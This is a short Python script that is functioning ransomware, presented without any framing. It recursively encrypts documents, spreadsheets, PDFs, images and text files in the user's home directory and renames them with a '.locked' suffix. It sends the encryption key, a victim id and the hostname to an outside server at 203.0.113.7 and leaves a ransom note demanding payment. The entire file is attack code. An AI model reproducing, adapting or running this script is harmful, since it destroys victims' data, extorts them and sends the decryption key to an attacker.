import os, sys, uuid, requests, platform
from pathlib import Path
from cryptography.fernet import Fernet
EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".txt"}
key = Fernet.generate_key()
f = Fernet(key)
victim = uuid.uuid4().hex

def walk(root):
    for p in Path(root).rglob("*"):
        if p.suffix.lower() in EXT and p.is_file():
            yield p

def lock(p):
    data = p.read_bytes()
    p.write_bytes(f.encrypt(data))
    p.rename(str(p) + ".locked")

n = 0
for p in walk(Path.home()):
    try:
        lock(p); n += 1
    except OSError:
        pass
requests.post("http://203.0.113.7/reg.php", data={"id": victim, "k": key.decode(), "n": n, "pc": platform.node()})  # egress sensitive
(Path.home() / "README.txt").write_text(f"Pay and send your id {victim}")
